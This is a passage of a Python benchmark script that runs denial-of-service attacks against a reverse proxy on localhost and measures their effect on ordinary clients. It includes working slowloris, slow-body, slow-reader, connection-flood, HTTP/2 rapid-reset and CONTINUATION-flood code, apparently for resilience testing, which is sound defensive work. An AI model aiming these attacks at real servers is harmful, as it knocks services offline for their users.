#!/usr/bin/env python3
"""Hostile clients against a release switchyard: what ordinary clients see.

Usage (normally through bench/hostile.sh, which raises the fd limit,
installs nginx-light if needed and builds the release binary):

    python3 bench/hostile.py [--only NAME,...] [--rounds N] [--out FILE]
                             [--before S] [--during S] [--after S]

For every attack a fresh switchyard is started (its Lua config is written
by this script, see CONFIG below) in front of a quick nginx backend
(bench/configs/hostile-backend.conf, the benchmark backend plus /big,
/upload and /status) on ports 19611-19613, and a second such nginx on
19614, in the pool only for the "(other backend)" attacks: there the
attacked site's Host is one the proxy sends to 19614 and the victims' one
the proxy sends to the shared backend (both found by asking the proxy,
X-Backend-Port), so the two share the proxy and nothing else. A separate
victim process (this file, --victim) sends
steady traffic for the whole timeline:

  keep-alive  200 req/s over 20 keep-alive HTTP/1.1 connections to the proxy
  new-conn    10 req/s, each on a new connection (Connection: close)
  control     100 req/s over 10 keep-alive connections straight to the
              backend: how much of a change is the machine, not the proxy

Latency is counted from the time a request was scheduled (open loop: a
stall is not hidden by coordinated omission); a failed or timed-out
request counts as infinitely slow. The timeline per attack is: warm-up,
BEFORE seconds, the attack for DURING seconds, a settle pause, AFTER
seconds, then the same attack again for DURING/2 seconds (does memory keep
growing?). This process samples the proxy's VmRSS and open fds every 0.25 s
(before: median of the before window; during: peak; after: the last
sample), the CPU of the proxy, the backend and itself, and the host's TCP
memory and TIME_WAIT count, and runs the attack itself with asyncio,
bounded in time and in connections. Everything is on 127.0.0.1. Attack
names (for --only) are the first column of the table (ATTACKS below).
"""
import argparse
import asyncio
import io
import json
import logging
import os
import resource
import shlex
import shutil
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)
HOST = "127.0.0.1"
PROXY_PORT = 19621
BACKEND_PORTS = (19611, 19612, 19613)
# A backend process of its own, in the pool only for the attacks that put
# the attacked site there ("other backend"): then the victims' site and the
# attacker's site share the proxy and nothing else.
OWN_BACKEND_PORT = 19614
STATUS_URLS = ("http://127.0.0.1:19611/status", "http://127.0.0.1:19614/status")
# The Hosts of the victims' and the attacker's requests; the "other backend"
# attacks choose both by asking the proxy where it sends candidates.
VICTIM_HOST = "site1.example"
ATTACK_HOST = "site1.example"


def request(host, close=False):
    return (f"GET / HTTP/1.1\r\nHost: {host}\r\n" + ("Connection: close\r\n" if close else "") + "\r\n").encode()


CONFIG = """-- written by bench/hostile.py
return {{
  listen = "127.0.0.1:{port}",
  backends = {{ {backends} }},
  access_log = {{ enabled = false }},
  timeouts = {{ header_read = {header_read}, idle = {idle}, body_idle = {body_idle}, backend_idle = {backend_idle} }},
  limits = {{ max_connections = {max_connections}, h2_max_streams = 100{extra_limits} }},
}}
"""
# What every run uses unless an attack says otherwise: the defaults, except
# body_idle (default 60 s), shortened so that the silent-body run ends in
# the window, and backend_idle (default 30 s), so that backend connections
# pooled during an attack are closed within the after window and the fd
# count can show whether anything else stayed open.
BASE_CONFIG = dict(header_read=10, idle=60, body_idle=10, backend_idle=5, max_connections=10000)

# `--proxy nginx|haproxy`: the same attacks against a peer as the proxy.
PEER_CONFIGS = {
    "nginx": """# written by bench/hostile.py --proxy nginx
worker_processes 2;
pid {tmp}/peer.pid;
error_log {tmp}/peer-error.log warn;
events {{ worker_connections {max_connections}; }}
http {{
  access_log off;
  client_header_timeout {header_read}s;
  client_body_timeout {body_idle}s;
  keepalive_timeout {idle}s;
  keepalive_requests 1000000;
  upstream backends {{
    hash $host consistent;
    {servers}
    keepalive 256;
    keepalive_timeout {backend_idle}s;
  }}
  server {{
    listen 127.0.0.1:{port} backlog=4096;
    client_max_body_size 0;
    location / {{
      proxy_pass http://backends;
      proxy_http_version 1.1;
      proxy_set_header Connection "";
      proxy_set_header Host $host;
      proxy_request_buffering off;
    }}
  }}
}}
""",
    "haproxy": """# written by bench/hostile.py --proxy haproxy
global
  nbthread 2
  maxconn {fd_bound_maxconn}
defaults
  mode http
  timeout connect 2s
  timeout client {idle}s
  timeout http-request {header_read}s
  timeout http-keep-alive {idle}s
  timeout server 60s
  http-reuse always
frontend routing
  bind 127.0.0.1:{port}
  default_backend pool
backend pool
  balance hdr(host)
  hash-type consistent
{servers}
""",
}

# `--limit name=value` fields added to the config's `limits` table.
EXTRA_LIMITS = []

mono = time.monotonic


# ---------------------------------------------------------------------------
# Small helpers


def pct(values, p):
    """The p-th percentile (nearest rank); None counts as infinitely slow."""
    if not values:
        return None
    vals = sorted(float("inf") if v is None else v for v in values)
    k = max(0, min(len(vals) - 1, int(-(-len(vals) * p // 100)) - 1))
    return vals[k]


def med(values):
    return statistics.median(values) if values else None


def fmt_ms(v):
    if v is None:
        return "–"
    if v == float("inf"):
        return "fail"
    return f"{v * 1000:.1f}" if v < 1 else f"{v * 1000:.0f}"


def fmt_s(v):
    return "–" if v is None else f"{v:.1f} s"


def ratio(a, b):
    if a is None or b is None or b == 0:
        return "–"
    if a == float("inf"):
        return "∞"
    return f"{a / b:.2f}×"


def rss_kib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def fd_count(pid):
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return None


TICK = os.sysconf("SC_CLK_TCK")


def cpu_seconds(pids):
    """User + system CPU seconds of these processes (all their threads)."""
    total = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
            total += int(fields[11]) + int(fields[12])
        except OSError:
            pass
    return total / TICK


def children(pid):
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(c) for c in f.read().split()]
    except OSError:
        return []


def sockstat(field):
    """A TCP field of /proc/net/sockstat (whole host): mem (pages of kernel
    memory of all TCP sockets) or tw (sockets in TIME_WAIT)."""
    with open("/proc/net/sockstat") as f:
        for line in f:
            if line.startswith("TCP:"):
                parts = line.split()
                return int(parts[parts.index(field) + 1])
    return None


def backend_counters():
    """(connections accepted, requests) so far, from the backends' stub_status."""
    try:
        total = [0, 0]
        for url in STATUS_URLS:
            with urllib.request.urlopen(url, timeout=2) as r:
                text = r.read().decode()
            accepts, _, requests = text.splitlines()[2].split()
            total[0] += int(accepts)
            total[1] += int(requests)
        return tuple(total)
    except Exception:
        return None


def backend_port_of(host):
    """Which backend port the proxy sends `host` to (the backend's X-Backend-Port)."""
    with socket.create_connection((HOST, PROXY_PORT), timeout=5) as sock:
        sock.sendall(request(host, close=True))
        head = b""
        while b"\r\n\r\n" not in head:
            data = sock.recv(4096)
            if not data:
                break
            head += data
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"x-backend-port":
            return int(value)
    raise SystemExit(f"no X-Backend-Port in the answer for {host}: {head[:200]!r}")


def choose_hosts():
    """A victims' Host on the shared backend and an attacker's Host on the
    attacked site's own backend, as this proxy's hashing places them."""
    victim = attacker = None
    for i in range(1, 400):
        host = f"site{i}.example"
        port = backend_port_of(host)
        if port == OWN_BACKEND_PORT and attacker is None:
            attacker = host
        elif port != OWN_BACKEND_PORT and victim is None:
            victim = host
        if victim and attacker:
            return victim, attacker
    raise SystemExit("no Host of site1..site399.example lands on the attacked site's own backend")


def raise_nofile():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


NICE = 0  # --nice: priority of the proxy, the backend and the victims


def child_setup():
    raise_nofile()
    if NICE:
        try:
            os.nice(NICE)
        except OSError:
            pass


async def read_response(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head[9:12])
    length = 0
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    if length:
        await reader.readexactly(length)
    return status


def abort(writer):
    try:
        writer.transport.abort()
    except Exception:
        pass


# ---------------------------------------------------------------------------
# The victim process


async def victim_keepalive(kind, port, conns, rate, start, end, out):
    interval = conns / rate

    async def one(offset):
        next_t = start + offset
        conn = None
        while next_t < end:
            delay = next_t - mono()
            if delay > 0:
                await asyncio.sleep(delay)
            sched = next_t
            next_t += interval
            try:
                if conn is None:
                    conn = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
                reader, writer = conn
                writer.write(request(VICTIM_HOST))
                status = await asyncio.wait_for(read_response(reader), 5)
                out.append((kind, sched, mono() - sched if status == 200 else None))
            except Exception:
                out.append((kind, sched, None))
                if conn:
                    abort(conn[1])
                conn = None
        if conn:
            abort(conn[1])

    await asyncio.gather(*(one(i * interval / conns) for i in range(conns)))


async def victim_newconn(port, rate, start, end, out, timeout=10):
    async def one(sched):
        writer = None
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout)
            writer.write(request(VICTIM_HOST, close=True))
            left = timeout - (mono() - sched)
            status = await asyncio.wait_for(read_response(reader), max(left, 0.01))
            out.append(("new", sched, mono() - sched if status == 200 else None))
        except Exception:
            out.append(("new", sched, None))
        finally:
            if writer:
                abort(writer)

    tasks = []
    next_t = start
    while next_t < end:
        delay = next_t - mono()
        if delay > 0:
            await asyncio.sleep(delay)
        tasks.append(asyncio.create_task(one(next_t)))
        next_t += 1 / rate
    await asyncio.gather(*tasks)


async def victim_main(args):
    global VICTIM_HOST
    VICTIM_HOST = args.host
    out = []
    start, end = args.start, args.end
    await asyncio.gather(
        victim_keepalive("ka", args.port, 20, 200, start, end, out),
        victim_newconn(args.port, 10, start, end, out),
        victim_keepalive("direct", BACKEND_PORTS[0], 10, 100, start, end, out),
    )
    with open(args.out, "w") as f:
        json.dump(out, f)


# ---------------------------------------------------------------------------
# HTTP/2 frames by hand (RFC 9113), HPACK literals without Huffman (RFC 7541)

H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
             6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
             11: "ENHANCE_YOUR_CALM"}


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_literal(index, value):
    """Literal header field without indexing, name from the static table."""
    assert index < 15 and len(value) < 127
    return bytes([index, len(value)]) + value


def hpack_literal_new(name, value):
    """Literal header field without indexing, new name."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


# :method GET, :scheme http, :path /, :authority site1.example
H2_BLOCK = (hpack_literal(2, b"GET") + hpack_literal(6, b"http") + hpack_literal(4, b"/")
            + hpack_literal(1, b"site1.example"))
RST_CANCEL = struct.pack(">I", 8)


class H2Conn:
    """What the server sent on one attacking connection."""

    def __init__(self):
        self.goaway = None  # (last stream id, error code)
        self.headers = 0
        self.rst = 0
        self.closed_at = None


async def h2_reader(reader, writer, conn):
    try:
        while True:
            head = await reader.readexactly(9)
            length = int.from_bytes(head[:3], "big")
            ftype, flags = head[3], head[4]
            payload = await reader.readexactly(length) if length else b""
            if ftype == SETTINGS and not flags & ACK:
                writer.write(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                writer.write(frame(PING, ACK, 0, payload))
            elif ftype == GOAWAY:
                conn.goaway = (int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                               int.from_bytes(payload[4:8], "big"))
            elif ftype == HEADERS:
                conn.headers += 1
            elif ftype == RST_STREAM:
                conn.rst += 1
    except (asyncio.IncompleteReadError, ConnectionError, OSError):
        pass
    conn.closed_at = mono()


# ---------------------------------------------------------------------------
# The attacks. Each runs connection loops until cancelled, then closes its
# sockets; `st` collects what happened for the report.


class Stats:
    def __init__(self):
        self.c = {}
        self.lists = {}

    def inc(self, key, n=1):
        self.c[key] = self.c.get(key, 0) + n

    def add(self, key, value):
        self.lists.setdefault(key, []).append(value)


CONNECT_SLOTS = None  # a semaphore bounding concurrent connects
# Set when the attack must end. Every attacker loop checks the event it saw
# when it started, besides being cancelled: Python 3.11's wait_for can
# swallow a cancellation, and an attack still running would hit the next
# runs. (asyncio.timeout is used instead of wait_for for the same reason.)
STOP = None


async def connect(port=PROXY_PORT, timeout=None):
    async with CONNECT_SLOTS:
        async with asyncio.timeout(timeout):
            return await asyncio.open_connection(HOST, port)


async def watch_close(reader, st):
    """Reads until the server closes; returns the first line it sent."""
    first = b""
    try:
        while True:
            chunk = await reader.read(4096)
            if not chunk:
                break
            first = first or chunk.split(b"\r\n", 1)[0]
    except (ConnectionError, OSError):
        st.inc("reset by proxy")
    return first


async def trickle_loop(st, head, step, every, after_first=None):
    """One connection at a time: send `head`, then `step` every `every`
    seconds (or, with after_first, `after_first` once and then nothing)
    until the proxy closes it; then reconnect."""
    stop = STOP
    while not stop.is_set():
        try:
            reader, writer = await connect(timeout=30)
        except (OSError, asyncio.TimeoutError):
            st.inc("connect failed")
            await asyncio.sleep(0.5)
            continue
        st.inc("connections")
        t0 = mono()
        closed = asyncio.create_task(watch_close(reader, st))
        try:
            writer.write(head + (after_first or b""))
            while not closed.done():
                await asyncio.wait([closed], timeout=every)
                if not closed.done() and after_first is None and not writer.is_closing():
                    writer.write(step)
                    st.inc("bytes trickled", len(step))
            first = closed.result()
            st.add("closed after", mono() - t0)
            st.inc("answered " + first.decode(errors="replace")[:40] if first else "closed without an answer")
        finally:
            closed.cancel()
            abort(writer)


async def slowloris(st, n=2000):
    head = b"GET /slowloris HTTP/1.1\r\nHost: site1.example\r\nX-Slow: "
    await asyncio.gather(*(trickle_loop(st, head, b"ab", 1.0) for _ in range(n)))


def slow_body_head():
    return (b"POST /upload HTTP/1.1\r\nHost: site1.example\r\nContent-Type: application/octet-stream\r\n"
            b"Content-Length: 100000000\r\n\r\n")


async def slow_body(st, n=500):
    await asyncio.gather(*(trickle_loop(st, slow_body_head(), b"x", 3.0) for _ in range(n)))


async def silent_body(st, n=500):
    await asyncio.gather(*(trickle_loop(st, slow_body_head(), b"", 3.0, after_first=b"x") for _ in range(n)))


async def slow_reader(st, n=300, every=1.0, chunk=64):
    loop = asyncio.get_running_loop()

    stop = STOP

    async def one():
        while not stop.is_set():
            sock = socket.socket()
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.setblocking(False)
            try:
                async with CONNECT_SLOTS:
                    async with asyncio.timeout(30):
                        await loop.sock_connect(sock, (HOST, PROXY_PORT))
                st.inc("connections")
                await loop.sock_sendall(sock, f"GET /big HTTP/1.1\r\nHost: {ATTACK_HOST}\r\n\r\n".encode())
                t0 = mono()
                while not stop.is_set():
                    data = await loop.sock_recv(sock, chunk)
                    if not data:
                        st.add("closed after", mono() - t0)
                        st.inc("closed by the proxy")
                        break
                    st.inc("bytes read", len(data))
                    await asyncio.sleep(every)
            except (OSError, asyncio.TimeoutError):
                st.inc("errors")
                await asyncio.sleep(0.5)
            finally:
                sock.close()

    await asyncio.gather(*(one() for _ in range(n)))


async def idle_conns(st, n=10000):
    writers = []

    async def one():
        try:
            reader, writer = await connect(timeout=30)
        except (OSError, asyncio.TimeoutError):
            st.inc("connect failed")
            return
        writers.append(writer)
        try:
            writer.write(request(ATTACK_HOST))
            async with asyncio.timeout(30):
                await read_response(reader)
            st.inc("open and idle")
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError):
            st.inc("first request failed")
            return
        t0 = mono()
        if await reader.read(1) == b"":
            st.inc("closed by the proxy")
            st.add("closed after", mono() - t0)

    try:
        t0 = mono()
        await asyncio.gather(*(one() for _ in range(n)))
    finally:
        for w in writers:
            abort(w)


async def flood(st, n=5000):
    pending = [0]
    stop = STOP

    async def one():
        while not stop.is_set():
            t0 = mono()
            pending[0] += 1
            try:
                reader, writer = await asyncio.open_connection(HOST, PROXY_PORT)
            except OSError:
                pending[0] -= 1
                st.inc("connect failed")
                await asyncio.sleep(0.5)
                continue
            pending[0] -= 1
            st.inc("connections")
            try:
                data = await reader.read(4096)
                st.inc("closed by the proxy" if not data else "answered")
                st.add("closed after", mono() - t0)
            except (ConnectionError, OSError):
                st.inc("reset by the proxy")
                st.add("closed after", mono() - t0)
            finally:
                abort(writer)

    try:
        await asyncio.gather(*(one() for _ in range(n)))
    finally:
        st.c["connects still pending at the end"] = pending[0]


async def h2_attack(st, n, send_loop):
    stop = STOP

    async def one():
        while not stop.is_set():
            try:
                reader, writer = await connect(timeout=10)
            except (OSError, asyncio.TimeoutError):
                st.inc("connect failed")
                await asyncio.sleep(0.5)
                continue
            st.inc("connections")
            conn = H2Conn()
            t0 = mono()
            read_task = asyncio.create_task(h2_reader(reader, writer, conn))
            sent = [0, 0]  # units (streams or frames), bytes
            try:
                try:
                    writer.write(H2_PREFACE + frame(SETTINGS, 0, 0))
                    await send_loop(writer, read_task, sent, stop)
                except (ConnectionError, OSError):
                    pass
                if not stop.is_set():  # the proxy closed it: read its last frames
                    await asyncio.wait([read_task], timeout=3)
            finally:
                # Counted here, so that connections still open when the
                # attack is cancelled count too.
                read_task.cancel()
                abort(writer)
                st.inc("units sent", sent[0])
                st.inc("bytes sent", sent[1])
                st.inc("responses (HEADERS)", conn.headers)
                st.inc("RST_STREAM from the proxy", conn.rst)
                if conn.closed_at:
                    st.add("closed after", conn.closed_at - t0)
                    st.add("units before close", sent[0])
                    st.add("bytes before close", sent[1])
                if conn.goaway:
                    st.inc("GOAWAY " + H2_ERRORS.get(conn.goaway[1], str(conn.goaway[1])))
                    st.add("GOAWAY last stream", conn.goaway[0])
                elif conn.closed_at:
                    # Closed or reset before a GOAWAY could be read (a server
                    # that closes with unread input sends RST, which can
                    # discard it).
                    st.inc("closed, no GOAWAY read")
                elif stop.is_set():
                    st.inc("still open at the end")

    await asyncio.gather(*(one() for _ in range(n)))


async def rapid_reset(st, n=4, batch=200, pause=0.0):
    """HEADERS + RST_STREAM pairs, `batch` per write, `pause` s between writes."""
    async def send_loop(writer, read_task, sent, stop):
        sid = 1
        while not read_task.done() and not stop.is_set() and sid < 2**31 - 2 * batch:
            buf = b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, H2_BLOCK) + frame(RST_STREAM, 0, s, RST_CANCEL)
                           for s in range(sid, sid + 2 * batch, 2))
            sid += 2 * batch
            writer.write(buf)
            sent[0] += batch
            sent[1] += len(buf)
            await writer.drain()
            await asyncio.sleep(pause)

    await h2_attack(st, n, send_loop)


def continuation_flood(payload_fields):
    async def attack(st, n=4, batch=16):
        payload = b"".join(hpack_literal_new(b"x-flood-%03d" % i, b"a" * 100) for i in range(payload_fields))
        assert len(payload) <= 16384  # SETTINGS_MAX_FRAME_SIZE's default
        cont = frame(CONTINUATION, 0, 1, payload) * batch

        async def send_loop(writer, read_task, sent, stop):
            writer.write(frame(HEADERS, END_STREAM, 1, H2_BLOCK))  # no END_HEADERS
            while not read_task.done() and not stop.is_set():
                writer.write(cont)
                sent[0] += batch
                sent[1] += len(cont)
                await writer.drain()
                await asyncio.sleep(0)

        await h2_attack(st, n, send_loop)

    return attack


# name, parameters (for the table), coroutine, config overrides
ATTACKS = [
    ("slowloris", "2,000 connections; request line + Host, then an endless header line, 2 bytes/s; "
     "reconnect when closed", slowloris, {}),
    ("slow body", "500 POST /upload, Content-Length 100 MB, body 1 byte every 3 s "
     "(backend waits for the whole body); reconnect when closed", slow_body, {}),
    ("silent body", "500 POST /upload, Content-Length 100 MB, 1 byte of body then nothing "
     "(body_idle = 10 s)", silent_body, {}),
    ("slow reader ×100", "100 GET /big (8 MiB), SO_RCVBUF 4 KiB, 64 bytes read per second",
     lambda st: slow_reader(st, 100), {}),
    ("slow reader ×300", "300 GET /big (8 MiB), SO_RCVBUF 4 KiB, 64 bytes read per second",
     lambda st: slow_reader(st, 300), {}),
    ("slow reader ×100 (other backend)", "as slow reader ×100, the attacked site on a backend process "
     "of its own (a 4th pool member), the victims' site on the shared one",
     lambda st: slow_reader(st, 100), {"own_backend": True}),
    ("slow reader ×300 (other backend)", "as slow reader ×300, the attacked site on a backend process "
     "of its own (a 4th pool member), the victims' site on the shared one",
     lambda st: slow_reader(st, 300), {"own_backend": True}),
    ("10k idle", "10,000 keep-alive connections, one request answered on each, then idle "
     "(max_connections = 12,000)", idle_conns, {"max_connections": 12000}),
    ("flood", "5,000 silent connections at once, reconnecting when closed "
     "(max_connections = 256)", flood, {"max_connections": 256}),
    ("h2 rapid reset", "4 h2c connections, HEADERS + RST_STREAM(CANCEL) pairs in a tight loop "
     "(batches of 200); reconnect when closed", rapid_reset, {}),
    ("h2 rapid reset (paced)", "4 h2c connections, HEADERS + RST_STREAM(CANCEL) pairs, 10 per write, "
     "2 ms apart (under a per-read reset limit); reconnect when closed",
     lambda st: rapid_reset(st, batch=10, pause=0.002), {}),
    ("h2 CONTINUATION flood", "4 h2c connections, HEADERS without END_HEADERS, then endless "
     "16 KB CONTINUATION frames of literal fields; reconnect when closed",
     continuation_flood(143), {}),
    ("h2 empty CONTINUATION", "4 h2c connections, HEADERS without END_HEADERS, then endless "
     "empty CONTINUATION frames; reconnect when closed", continuation_flood(0), {}),
]


def describe(name, st, backend_seen):
    """What the proxy did to the attackers, in one cell."""
    c, lists = st.c, st.lists
    closed = lists.get("closed after", [])
    parts = []
    if name.startswith("h2"):
        unit = "streams" if name.startswith("h2 rapid reset") else "frames"
        parts.append(f"{c.get('connections', 0)} connections, {c.get('units sent', 0):,} {unit} "
                     f"({c.get('bytes sent', 0) / 1e6:.1f} MB) sent")
        goaways = [f"{k[7:]} ×{v:,}" for k, v in c.items() if k.startswith("GOAWAY ")]
        if goaways:
            parts.append("GOAWAY " + ", ".join(goaways))
        if c.get("closed, no GOAWAY read"):
            parts.append(f"closed or reset with no GOAWAY read ×{c['closed, no GOAWAY read']:,}")
        if lists.get("GOAWAY last stream"):
            parts.append(f"GOAWAY last-stream-id median {med(lists['GOAWAY last stream']):,.0f}")
        if c.get("still open at the end"):
            parts.append(f"still open at the end ×{c['still open at the end']}")
        if closed:
            parts.append(f"closed after median {med(closed) * 1000:.0f} ms, the attacker having written "
                         f"{med(lists['units before close']):,.0f} {unit} / "
                         f"{med(lists['bytes before close']) / 1e3:,.0f} kB")
        else:
            parts.append("no connection closed by the proxy")
        if c.get("responses (HEADERS)"):
            parts.append(f"{c['responses (HEADERS)']:,} responses")
        if backend_seen is not None:
            parts.append(f"backend saw ≈{max(backend_seen[0], 0):,} attack requests and "
                         f"{backend_seen[1]:,} new connections from the proxy")
        return "; ".join(parts)
    total = c.get("connections", c.get("open and idle", 0))
    parts.append(f"{total:,} connections")
    by_proxy = [(k, v) for k, v in c.items()
                if k.startswith("answered") or k.startswith("closed") or k.startswith("reset")]
    for k, v in by_proxy:
        parts.append(f"{k} ×{v:,}")
    if closed:
        parts.append(f"closed after median {med(closed):.1f} s (min {min(closed):.1f}, max {max(closed):.1f})")
    else:
        parts.append("none closed by the proxy during the attack")
    for k in ("connect failed", "first request failed", "errors", "connects still pending at the end"):
        if c.get(k):
            parts.append(f"{k} ×{c[k]:,}")
    if c.get("bytes read"):
        parts.append(f"{c['bytes read'] / max(total, 1) / 1024:.1f} KiB read per connection")
    return "; ".join(parts)


# ---------------------------------------------------------------------------
# The orchestrator


class Run:
    def __init__(self, args, tmp):
        self.args = args
        self.tmp = tmp
        self.bin = args.bin

    def start_backend(self):
        with open(os.path.join(self.tmp, "big.bin"), "wb") as f:
            f.write(os.urandom(8 << 20))
        self.backends = []  # each one as it starts: all are stopped after a failure
        self.nginx_backend("backend", BACKEND_PORTS)
        self.nginx_backend("own-backend", (OWN_BACKEND_PORT,))

    def nginx_backend(self, name, ports):
        with open(os.path.join(HERE, "configs", "hostile-backend.conf")) as f:
            conf = f.read()
        listen = " ".join(f"listen {HOST}:{port} backlog=4096;" for port in ports)
        conf = conf.replace("__TMP__", self.tmp).replace("__NAME__", name).replace("__LISTEN__", listen)
        path = os.path.join(self.tmp, f"{name}.conf")
        with open(path, "w") as f:
            f.write(conf)
        proc = subprocess.Popen(["nginx", "-c", path, "-g", "daemon off;"], preexec_fn=child_setup)
        self.backends.append(proc)
        wait_port(ports[0], proc)
        return proc

    @staticmethod
    def pool(cfg):
        return BACKEND_PORTS + ((OWN_BACKEND_PORT,) if cfg.get("own_backend") else ())

    def start_proxy(self, name, overrides):
        cfg = dict(BASE_CONFIG, **overrides)
        if self.args.proxy != "switchyard":
            return self.start_peer(name, cfg), dict(cfg, proxy=self.args.proxy)
        slug = name.replace(" ", "-").replace("/", "")
        path = os.path.join(self.tmp, f"{slug}.lua")
        with open(path, "w") as f:
            extra = "".join(f", {field}" for field in EXTRA_LIMITS)
            backends = ", ".join(f'"{HOST}:{port}"' for port in self.pool(cfg))
            f.write(CONFIG.format(port=PROXY_PORT, extra_limits=extra, backends=backends, **cfg))
        self.log_path = os.path.join(self.tmp, f"{slug}.log")
        self.log = open(self.log_path, "w")
        db = os.path.join(self.tmp, f"{slug}.db")
        proxy = subprocess.Popen([self.bin, "--config", path, "--database", f"sqlite://{db}",
                                  "--admin-listen", "127.0.0.1:0"],
                                 stdout=self.log, stderr=self.log, preexec_fn=child_setup)
        wait_port(PROXY_PORT, proxy)
        return proxy, dict(cfg, limits=EXTRA_LIMITS) if EXTRA_LIMITS else cfg

    def start_peer(self, name, cfg):
        """nginx or HAProxy as the proxy, set up like switchyard: two workers,
        consistent hashing on the Host, pooled keep-alive backend connections,
        the same timeouts and connection limit."""
        slug = name.replace(" ", "-").replace("/", "")
        # HAProxy needs two fds per connection and refuses to start past the fd limit
        fd_bound_maxconn = min(cfg["max_connections"], resource.getrlimit(resource.RLIMIT_NOFILE)[0] // 2 - 10)
        if self.args.proxy == "nginx":
            servers = " ".join(f"server {HOST}:{port};" for port in self.pool(cfg))
        else:
            servers = "\n".join(f"  server b{i} {HOST}:{port}" for i, port in enumerate(self.pool(cfg), 1))
        conf = PEER_CONFIGS[self.args.proxy].format(port=PROXY_PORT, tmp=self.tmp, servers=servers,
                                                    fd_bound_maxconn=fd_bound_maxconn, **cfg)
        path = os.path.join(self.tmp, f"{slug}.{self.args.proxy}.conf")
        with open(path, "w") as f:
            f.write(conf)
        self.log_path = os.path.join(self.tmp, f"{slug}.log")
        self.log = open(self.log_path, "w")
        if self.args.proxy == "nginx":
            cmd = ["nginx", "-c", path, "-g", "daemon off;"]
        else:
            cmd = ["haproxy", "-f", path, "-db"]
        proxy = subprocess.Popen(cmd, stdout=self.log, stderr=self.log, preexec_fn=child_setup)
        wait_port(PROXY_PORT, proxy)
        return proxy

    async def attack(self, name, params, fn, overrides):
        global VICTIM_HOST, ATTACK_HOST
        proxy, cfg = self.start_proxy(name, overrides)
        self.children = [proxy]
        try:
            if cfg.get("own_backend"):
                VICTIM_HOST, ATTACK_HOST = choose_hosts()
                cfg = dict(cfg, victim_host=VICTIM_HOST, attack_host=ATTACK_HOST)
            else:
                VICTIM_HOST = ATTACK_HOST = "site1.example"
            return await self.measure(name, params, fn, proxy, cfg)
        finally:
            for child in self.children:  # after an error: nothing left running
                if child.poll() is None:
                    child.terminate()
                    try:
                        child.wait(10)
                    except subprocess.TimeoutExpired:
                        child.kill()
                        child.wait()

    async def measure(self, name, params, fn, proxy, cfg):
        a = self.args
        limit = open(f"/proc/{proxy.pid}/limits").read()
        nofile = [l for l in limit.splitlines() if l.startswith("Max open files")][0].split()[3]
        t0 = mono() + 0.5
        warm_end = t0 + 2
        atk_start = warm_end + a.before
        atk_stop = atk_start + a.during
        after_start = atk_stop + 2
        after_end = after_start + a.after
        again_stop = after_end + max(5, a.during / 2)
        again_end = again_stop + 3
        vout = os.path.join(self.tmp, "victim.json")
        victim = subprocess.Popen([sys.executable, os.path.abspath(__file__), "--victim",
                                   "--port", str(PROXY_PORT), "--start", repr(t0), "--end", repr(again_end),
                                   "--host", VICTIM_HOST, "--out", vout], preexec_fn=child_setup)
        self.children.append(victim)
        samples = []
        backend_pids = [pid for b in self.backends for pid in [b.pid] + children(b.pid)]

        async def sampler():
            while True:
                samples.append((mono(), rss_kib(proxy.pid), fd_count(proxy.pid), sockstat("mem"),
                                cpu_seconds([proxy.pid]), cpu_seconds(backend_pids),
                                cpu_seconds([os.getpid()]), sockstat("tw")))
                await asyncio.sleep(0.25)

        sampling = asyncio.create_task(sampler())
        sampling.keep = True
        await sleep_until(atk_start)
        req0 = backend_counters()
        st = Stats()
        global STOP
        STOP = asyncio.Event()
        task = asyncio.create_task(fn(st))
        await sleep_until(atk_stop)
        await stop_attack(name, task)
        stopped = mono()
        req1 = backend_counters()
        await sleep_until(after_end)
        # The same attack again on the same proxy: memory an allocator
        # keeps for reuse stays flat, a leak grows.
        STOP = asyncio.Event()
        task = asyncio.create_task(fn(Stats()))
        await sleep_until(again_stop)
        await stop_attack(name, task)
        await sleep_until(again_end)
        while victim.poll() is None:
            await asyncio.sleep(0.1)
        sampling.cancel()
        alive = proxy.poll() is None
        if any(b.poll() is not None for b in self.backends):
            raise SystemExit(f"a backend (nginx) exited during {name}; see {self.tmp}/*backend-error.log")
        proxy.terminate()
        try:
            proxy.wait(10)
        except subprocess.TimeoutExpired:
            proxy.kill()
            proxy.wait()
        self.log.close()
        with open(vout) as f:
            records = json.load(f)

        def window(kind, lo, hi):
            return [lat for k, t, lat in records if k == kind and lo <= t < hi]

        wins = {"before": (warm_end, atk_start), "during": (atk_start, atk_stop), "after": (after_start, after_end)}
